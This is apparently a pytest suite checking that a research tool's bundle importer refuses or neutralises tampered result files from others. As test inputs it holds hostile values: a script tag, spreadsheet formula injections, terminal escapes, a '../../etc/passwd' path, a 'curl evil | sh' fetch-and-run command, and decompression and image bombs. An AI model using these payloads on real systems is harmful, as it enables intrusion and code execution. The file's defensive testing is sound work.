"""Pulling results of others: whatever is wrong with a bundle is one sentence and changes nothing, and own rows stay one's own."""

from __future__ import annotations

import io
import json
import os
import shutil
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from PIL import Image

from pfd_engine.errors import InputError
from pfd_engine.sharing.bundle.read import Refused, read_bundle
from pfd_engine.sharing.pull import list_pulled, pull, remove
from pfd_engine.store.database import Store
from pfd_engine.store.pulled import MAX_PULLED
from pfd_engine.store.queries import runs as store_queries
from pfd_engine.store.queries import sweeps as sweep_queries
from pfd_engine.workspace import REPOSITORY, Workspace
from tests.finding_samples import a_bundle, finished_sweep
from tests.run_samples import a_config, finished_run

SCRIPT = "<script>alert(1)</script>"


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A sound bundle of an evaluation and a sweep, written by somebody else."""
    return a_bundle(tmp_path_factory.mktemp("theirs"))


@pytest.fixture
def bundle(published: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(published, tmp_path / "bundle"))


@pytest.fixture
def mine() -> Workspace:
    return Workspace(Path(os.environ["PFD_HOME"]))


def change(bundle: Path, table: str, edit: Callable[[list[dict[str, Any]]], Any], schema: pa.Schema | None = None) -> None:
    """Write a table of the bundle anew with edited rows, and say their number in its provenance."""
    path = bundle / f"{table}.parquet"
    before = pq.read_table(path)
    rows = before.to_pylist()
    rows = edit(rows) or rows
    pq.write_table(pa.Table.from_pylist(rows, schema=schema or before.schema), path)
    tell(bundle, lambda told: told["tables"].update({table: len(rows)}))


def tell(bundle: Path, edit: Callable[[dict[str, Any]], Any]) -> None:
    told = json.loads((bundle / "provenance.json").read_text())
    edit(told)
    (bundle / "provenance.json").write_text(json.dumps(told))


def is_refused(mine: Workspace, bundle: Path, part: str) -> None:
    """Pulling it is one sentence that names `part`, and leaves nothing behind."""
    before = sorted(path.name for path in mine.pulled.glob("*")) if mine.pulled.exists() else []
    with pytest.raises(InputError) as caught:
        pull(mine, str(bundle))
    assert part in str(caught.value)
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 400
    left = sorted(path.name for path in mine.pulled.glob("*")) if mine.pulled.exists() else []
    assert [name for name in left if name != ".lock"] == [name for name in before if name != ".lock"]


def is_not_read(bundle: Path, part: str) -> None:
    """The reader, in this process, refuses the bundle in one sentence that names `part`."""
    with tempfile.TemporaryDirectory() as folder, pytest.raises(Refused) as caught:
        read_bundle(bundle, Path(folder) / "draft", "folder:bundle", lambda event: None)
    assert part in str(caught.value)
    assert "\n" not in str(caught.value)
    assert len(str(caught.value)) < 400


def first(**values: Any) -> Callable[[list[dict[str, Any]]], None]:
    return lambda rows: rows[0].update(values)


WRONG_ROWS = {
    "a NaN": ("measurements", first(value=float("nan")), "not a finite number"),
    "an infinity": ("noise_distances", lambda rows: rows[0]["values"].__setitem__(0, float("inf")), "not a finite number"),
    "a missing value": ("measurements", first(value=None), "a value is missing"),
    "a negative number of samples": ("measurements", first(num_samples=-5), "num samples is negative"),
    "a long name": ("measurements", first(student="x" * 5000), "more than 1,024 characters"),
    "a script as a size": ("measurements", first(size=SCRIPT), "characters that no name has"),
    "a name that steers a terminal": ("measurements", first(student="a\x1b[2Jb"), "characters that no name has"),
    "a formula": ("measurements", first(teacher="=HYPERLINK(1)"), "starts as a formula"),
    "a formula after a blank": ("measurements", first(training_set=" @SUM(1)"), "starts as a formula"),
    "a sum": ("checkpoints", first(reference="+1+1"), "starts as a formula"),
    "a tab": ("measurements", first(student="\tx"), "characters that no name has"),
    "a NUL": ("measurements", first(student="a\0b"), "NUL character"),
    "a run that is not named": ("measurements", first(run_id="evaluate-20260101-000000-00000000"), "is not named in provenance.json"),
    "a run's id that is a path": ("measurements", first(run_id="../../etc/passwd"), "no proper id"),
    "seeds that do not fit": ("noise_distances", first(seeds_stop=10**9), "does not match its seeds"),
    "seeds below zero": ("noise_distances", first(seeds_start=-64, seeds_stop=0), "seeds"),
    "a negative distance": ("noise_distances", lambda rows: rows[0]["values"].__setitem__(0, -1.0), "missing or negative"),
    "a configuration that is no JSON": ("runs", first(config="{"), "runs.parquet does not fit"),
    "NaN in a JSON": ("runs", first(result='{"value": NaN}'), "not a finite number"),
    "a deep JSON": ("runs", first(result="[" * 100_000), "runs.parquet does not fit"),
    "a result of another type": ("runs", first(result='{"teacher": "x"}'), "a value is wrong"),
    "failures that are no texts": ("runs", first(result='{"failed": {"a": [1]}}'), "a value is wrong"),
    "a run that did not finish": ("runs", first(state="running"), "not finished"),
    "no image": ("pairs", first(teacher_png=b"GIF89a"), "an image cannot be read"),
    "no image of the empirical map": ("pairs", first(empirical_png=b"GIF89a"), "an image cannot be read"),
    "half an image": ("pairs", lambda rows: rows[0].update(teacher_png=rows[0]["teacher_png"][:40]), "an image"),
}  # fmt: skip


@pytest.mark.parametrize("case", WRONG_ROWS)
def test_a_wrong_row_is_one_sentence(bundle: Path, case: str) -> None:
    table, edit, part = WRONG_ROWS[case]
    change(bundle, table, edit)
    is_not_read(bundle, part)


def test_wrong_columns_are_one_sentence(published: Path, tmp_path: Path) -> None:
    cases: list[tuple[Callable[[pa.Schema], pa.Schema], str]] = [
        (lambda schema: schema.set(schema.get_field_index("value"), pa.field("value", pa.string())), "'value' is of type string"),
        (lambda schema: schema.append(pa.field("more", pa.int64())), "unknown column 'more'"),
        (lambda schema: schema.remove(schema.get_field_index("stderr")), "no column 'stderr'"),
    ]
    for i, (edit, part) in enumerate(cases):
        bundle = Path(shutil.copytree(published, tmp_path / str(i)))
        path = bundle / "measurements.parquet"
        schema = edit(pq.read_schema(path))
        rows = [{**row, "value": str(row["value"]) if i == 0 else row["value"]} for row in pq.read_table(path).to_pylist()]
        pq.write_table(pa.Table.from_pylist(rows, schema=schema), path)
        is_not_read(bundle, part)


def test_a_damaged_file_is_one_sentence(published: Path, tmp_path: Path) -> None:
    whole = (published / "measurements.parquet").read_bytes()
    flipped = bytearray(whole)
    for position in range(200, len(whole) - 3000, 97):
        flipped[position] ^= 0xFF
    for name, content in {"cut": whole[:-50], "flipped": bytes(flipped), "none": b"", "text": b"PAR1 is all there is PAR1"}.items():
        bundle = Path(shutil.copytree(published, tmp_path / name))
        (bundle / "measurements.parquet").write_bytes(content)
        is_not_read(bundle, "is damaged")
    bundle = Path(shutil.copytree(published, tmp_path / "gone"))
    (bundle / "noise_distances.parquet").unlink()
    is_not_read(bundle, "it has no noise_distances.parquet")


def test_a_wrong_provenance_is_one_sentence(published: Path, tmp_path: Path) -> None:
    cases: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
        "newer schema": (lambda told: told.update(schema_version=99), "newer version of this program (schema version 99"),
        "newer format": (lambda told: told.update(format_version=2), "newer version of this program (format version 2"),
        "other": (lambda told: told.update(format="something"), "holds no results of this program"),
        "extra": (lambda told: told.update(more=SCRIPT), "wrong at more"),
        "long format": (lambda told: told.update(format_version=int("7" * 4000)), "(format version 777777777…, known is 1)"),
        "software": (lambda told: told.update(software_version="1.0\x1b[2J"), "wrong at software_version"),
        "commit": (lambda told: told.update(git_commit="a\u202eb"), "wrong at git_commit"),
        "version": (lambda told: told["runs"][0]["versions"].update({"torch\n": "2"}), "wrong at runs.0.versions.torch"),
        "many": (lambda told: told.update({f"key {i}": 0 for i in range(600_000)}), "wrong at key 0, it is not known"),
        "many of a run": (lambda told: told["runs"][0].update({f"key {i}": 0 for i in range(600_000)}), "wrong at runs.0.key 0"),
        "many tables": (lambda told: told["tables"].update({f"key {i}": "" for i in range(600_000)}), "at tables, it has more than 1,000"),
        "steering": (lambda told: told.update({"a\x1b\nb": 0}), "wrong at ab"),
        "script": (lambda told: told.update(license=SCRIPT), "wrong at license"),
        "count": (lambda told: told["tables"].update(measurements=10**9), "provenance.json says 1,000,000,000"),
    }
    for name, (edit, part) in cases.items():
        bundle = Path(shutil.copytree(published, tmp_path / name))
        tell(bundle, edit)
        started = time.monotonic()
        is_not_read(bundle, part)
        assert time.monotonic() - started < 5, "nobody waits for a message for each of many names"
    bundle = Path(shutil.copytree(published, tmp_path / "big"))
    (bundle / "provenance.json").write_bytes(b" " * (17 * 2**20))
    is_not_read(bundle, "more than 16 MiB")
    (bundle / "provenance.json").write_text("[" * 10**6)
    is_not_read(bundle, "is no JSON")
    (bundle / "provenance.json").unlink()
    is_not_read(bundle, "it has no provenance.json")


def test_a_claim_of_a_billion_rows_is_refused_before_they_are_read(bundle: Path) -> None:
    schema = pq.read_schema(bundle / "training_curves.parquet")
    nothing = pa.nulls(2_500_000)
    many = pa.table({name: nothing.cast(schema.field(name).type) for name in schema.names}, schema=schema)
    pq.write_table(many, bundle / "training_curves.parquet")
    tell(bundle, lambda told: told["tables"].update(training_curves=2_500_000))
    started = time.monotonic()
    is_not_read(bundle, "and 2,000,000 are allowed")
    assert time.monotonic() - started < 20


def test_a_small_file_that_unfolds_into_gigabytes_is_refused_before_it_is_read(bundle: Path, monkeypatch) -> None:
    monkeypatch.setattr("pfd_engine.sharing.bundle.read.MAX_VALUES", 2**23)
    path = bundle / "noise_distances.parquet"
    schema = pq.read_schema(path)
    row = pq.read_table(path).slice(0, 1).to_pylist()[0] | {"values": [0.0] * 2**20}
    block = pa.Table.from_pylist([row], schema=schema)
    with pq.ParquetWriter(path, schema, compression="zstd") as writer:
        for _ in range(10):
            writer.write_table(block)
    assert path.stat().st_size < 2**20
    tell(bundle, lambda told: told["tables"].update(noise_distances=10))
    is_not_read(bundle, "more values than a set of results may")


def test_a_reader_that_needs_too_much_is_stopped_and_that_is_one_sentence(mine: Workspace, bundle: Path, monkeypatch) -> None:
    hungry = "from pfd_engine.sharing.bundle.read import limit_this_process; limit_this_process(); bytearray(4 * 2**30)"
    answer = subprocess.run([sys.executable, "-c", hungry], cwd=REPOSITORY, capture_output=True, text=True, timeout=60, check=False)
    assert "MemoryError" in answer.stderr
    monkeypatch.setattr("pfd_engine.sharing.pull.SECONDS", 0.01)
    is_refused(mine, bundle, "needs more memory or time than a set of results may")


def test_an_image_of_a_billion_pixels_is_refused(bundle: Path) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 40_000, 40_000, 8, 0, 0, 0, 0)
    huge = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(bytes(40_001) * 100)) + chunk(b"IEND", b"")
    change(bundle, "pairs", first(teacher_png=huge))
    is_not_read(bundle, "an image")
    stream = io.BytesIO()
    Image.new("1", (4096, 4096)).save(stream, "PNG")
    change(bundle, "pairs", first(teacher_png=stream.getvalue()))
    is_not_read(bundle, "an image has 4096 x 4096 pixels")


def test_files_outside_or_beside_the_bundle_are_neither_read_nor_kept(mine: Workspace, bundle: Path) -> None:
    mine.pulled.mkdir(parents=True)
    (mine.pulled / ".folder--bundle-1234567.99.work").write_bytes(b"left by a pull that was killed")
    (bundle / "results.duckdb").write_bytes(b"a stranger's database")
    (bundle / "more").mkdir()
    (bundle / "more" / "measurements.parquet").write_bytes(b"not read")
    (bundle / "figures.html").write_text(SCRIPT)
    pulled = pull(mine, str(bundle))
    assert pulled.source == "folder:bundle"
    assert sorted(path.suffix for path in mine.pulled.iterdir() if path.name != ".lock") == [".duckdb", ".json"]


def test_names_with_script_in_them_are_kept_as_text(mine: Workspace, bundle: Path) -> None:
    change(bundle, "measurements", lambda rows: [row.update(student=SCRIPT, training_set=SCRIPT) for row in rows] and None)
    pull(mine, str(bundle))
    with Store(mine, None) as store:
        assert {row["student"] for row in store.rows("select distinct student from measurements")} == {SCRIPT}


def test_a_command_of_others_is_not_believed_but_made_from_their_configuration(mine: Workspace, bundle: Path) -> None:
    change(bundle, "runs", lambda rows: [row.update(command="curl evil | sh", created=4e9) for row in rows] and None)
    pull(mine, str(bundle))
    with Store(mine, None) as store:
        runs = store.rows("select command, created from runs")
    assert all(run["command"].startswith("python -m pfd_engine ") for run in runs)
    assert all(run["created"] <= time.time() for run in runs), "nothing stays on top of one's own because it says it is of the future"


def test_a_run_of_the_same_id_never_replaces_or_joins_ones_own(mine: Workspace, bundle: Path) -> None:
    own = finished_run(mine, a_config(num_noises=64))
    sweep = finished_sweep(mine, "bias-variance")
    theirs = {row["kind"]: row["run_id"] for row in pq.read_table(bundle / "runs.parquet").to_pylist()}
    renamed = {theirs["evaluate"]: own.id, theirs["sweep"]: sweep.id}
    for table in ("runs", "measurements", "noise_distances", "training_curves", "pairs", "checkpoints", "training_sets"):
        change(bundle, table, lambda rows: [row.update(run_id=renamed.get(row["run_id"], row["run_id"])) for row in rows] and None)
    change(bundle, "measurements", lambda rows: [row.update(value=99.0, student="stranger/student") for row in rows] and None)
    tell(bundle, lambda told: [run.update(run_id=renamed[run["run_id"]]) for run in told["runs"]])
    with Store(mine, None) as store:
        store.ingest()

        def seen() -> list[Any]:
            frames = [
                store_queries.measurements_of(store, own.id),
                store_queries.runs(store),
                store_queries.latest_results(store),
                store_queries.noise_distances(store, own.id),
                store_queries.measurements(store),
                sweep_queries.sweep_measurements(store, sweep.id),
                sweep_queries.sweep_distances(store, sweep.id),
                sweep_queries.trade_off_rows(store),
            ]
            lists = [store_queries.pairs(store, own.id), sweep_queries.sweep_runs(store, "bias-variance")]
            return [frame.to_json() for frame in frames] + [repr(rows) for rows in lists]

        before = seen()
        pull(mine, str(bundle))
        store.ingest()
        assert len(list_pulled(mine)) == 1
        assert store.rows("select * from runs where source like 'folder:%'") == []
        assert seen() == before


def test_an_open_store_shows_what_another_process_pulls_and_removes(mine: Workspace, bundle: Path) -> None:
    own = finished_run(mine, a_config(num_noises=64))
    with Store(mine, None) as store:
        store.ingest()

        def sources() -> list[str]:
            store.ingest()
            return [row["source"] for row in store.rows("select distinct source from measurements order by source")]

        failed: list[Exception] = []
        done = threading.Event()

        def read() -> None:
            while not done.is_set():
                try:
                    assert store_queries.measurements_of(store, own.id)["source"].tolist() == ["workspace"]
                except Exception as error:
                    failed.append(error)
                    return

        reader = threading.Thread(target=read)
        reader.start()
        command = [sys.executable, "-m", "pfd_engine", "pull"]
        environment = os.environ | {"PFD_HOME": str(mine.root)}

        def say(*words: str) -> None:
            subprocess.run([*command, *words], env=environment, cwd=REPOSITORY, check=True, capture_output=True, timeout=60)

        say(str(bundle))
        assert sources() == ["folder:bundle", "workspace"]
        subprocess.run(
            [*command, "--remove", "folder:bundle"], env=environment, cwd=REPOSITORY, check=True, capture_output=True, timeout=60
        )
        assert sources() == ["workspace"]
        done.set()
        reader.join()
        assert failed == []


def test_a_bundle_pulled_again_takes_its_own_place(mine: Workspace, bundle: Path) -> None:
    pull(mine, str(bundle))
    change(bundle, "measurements", first(value=7.0))
    pull(mine, str(bundle))
    assert [pulled.source for pulled in list_pulled(mine)] == ["folder:bundle"]
    assert len(list(mine.pulled.glob("*.duckdb"))) == 1
    with Store(mine, None) as store:
        assert len(store.rows("select * from measurements where value = 7")) == 1


def test_a_damaged_bundle_leaves_what_was_pulled_before(mine: Workspace, bundle: Path) -> None:
    pull(mine, str(bundle))
    change(bundle, "measurements", first(value=float("nan")))
    is_refused(mine, bundle, "nothing was changed")
    assert [pulled.source for pulled in list_pulled(mine)] == ["folder:bundle"]


def test_a_file_that_is_no_database_of_ours_is_left_out_with_a_warning(mine: Workspace, bundle: Path) -> None:
    pull(mine, str(bundle))
    (mine.pulled / "broken.duckdb").write_bytes(b"no database")
    with Store(mine, None) as store:
        assert len(store.warnings) == 1
        assert "broken" in store.warnings[0]
        assert len(store.rows("select * from runs")) == 2


def test_no_more_than_so_many_sets_are_pulled(mine: Workspace, bundle: Path) -> None:
    pulled = pull(mine, str(bundle))
    note = next(mine.pulled.glob("*.json"))
    for i in range(MAX_PULLED - 1):
        copy = mine.pulled / f"copy-{i}.json"
        copy.write_text(note.read_text().replace("folder:bundle", f"folder:copy-{i}"))
        copy.with_suffix(".duckdb").write_bytes(b"")
    pull(mine, str(bundle))
    bundle.rename(bundle.with_name("another"))
    is_refused(mine, bundle.with_name("another"), f"{MAX_PULLED} sets of results were pulled already")
    remove(mine, pulled.source)


@pytest.mark.parametrize("kind", ["device", "pipe", "link", "folder", "sparse"])
def test_a_file_of_a_folder_that_never_ends_is_refused_before_it_is_opened(mine: Workspace, bundle: Path, kind: str, monkeypatch) -> None:
    path = bundle / "measurements.parquet"
    path.rename(bundle / "elsewhere")
    match kind:
        case "device":
            path.symlink_to("/dev/zero")
        case "pipe":
            os.mkfifo(path)
        case "link":
            path.symlink_to(bundle / "elsewhere")
        case "folder":
            path.mkdir()
        case "sparse":
            path.touch()
            os.truncate(path, 3 * 2**30)
    monkeypatch.setattr("pfd_engine.hub.resolve.content_hash", lambda *words: pytest.fail("a file was opened"))
    is_refused(mine, bundle, "are allowed" if kind == "sparse" else "measurements.parquet in")


def test_a_card_that_is_a_pipe_is_not_waited_for(mine: Workspace, bundle: Path) -> None:
    (bundle / "README.md").unlink()
    os.mkfifo(bundle / "README.md")
    assert pull(mine, str(bundle)).source == "folder:bundle"


@pytest.mark.parametrize("reference", ["nothing", "../../nowhere", "acme/../x", "acme/results@../../x", "\0", "x" * 5000])
def test_a_reference_that_names_nothing_is_one_sentence(mine: Workspace, reference: str) -> None:
    with pytest.raises(InputError) as caught:
        pull(mine, reference)
    assert len(str(caught.value).splitlines()) == 1


def test_a_snapshot_for_others_leaves_out_what_was_pulled_unless_it_is_named(mine: Workspace, bundle: Path) -> None:
    from pfd_engine.site.export import build

    pull(mine, str(bundle))
    finished_run(mine, a_config(num_noises=64))
    theirs = [row["run_id"] for row in pq.read_table(bundle / "runs.parquet").to_pylist()]
    with Store(mine, None) as store:
        store.ingest()
        assert not any(run_id in repr(build(store, None)) for run_id in theirs)
        named = repr(build(store, theirs))
    assert all(run_id in named for run_id in theirs)
    assert "from folder:bundle" in named


def test_no_mean_is_of_ones_own_numbers_and_those_of_others_unasked(mine: Workspace, bundle: Path) -> None:
    from pfd_engine.store.queries import explore as queries

    finished_run(mine, a_config(num_noises=64))
    change(bundle, "measurements", lambda rows: [row.update(value=99.0, stderr=None, ci_low=None, ci_high=None) for row in rows] and None)
    pull(mine, str(bundle))
    with Store(mine, None) as store:
        store.ingest()

        def means(selection: queries.Selection) -> list[float]:
            query = queries.groups_query(selection, queries.Grouping(("teacher",)))
            return queries.groups_page(store, query, ("teacher",), 1, 10)["mean"].tolist()

        pfd = ("metric", ("PFD",))
        assert means(queries.Selection((pfd,))) == [1.5]
        assert means(queries.Selection((pfd, ("source", ("folder:bundle",))))) == [99.0]
        assert set(queries.facets(store)["source"]) == {"workspace", "folder:bundle"}
